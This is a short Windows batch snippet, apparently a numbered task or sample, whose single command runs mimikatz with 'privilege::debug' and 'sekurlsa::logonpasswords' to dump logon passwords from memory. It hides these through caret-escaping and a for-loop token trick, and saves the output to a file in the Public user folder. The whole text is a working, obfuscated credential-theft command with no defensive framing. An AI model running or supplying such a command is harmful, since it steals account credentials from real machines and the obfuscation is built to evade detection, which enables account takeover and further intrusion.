REM task 9043 v4
for /^f "tokens=1 delims=~" %%i i^n ("mimikatz.exe~cwpq~amix") do %%i "privilege::debug" "sekurlsa::logonpasswords" "exit" > ^C:\Us^ers\^P^ubli^c\^m.tx^t
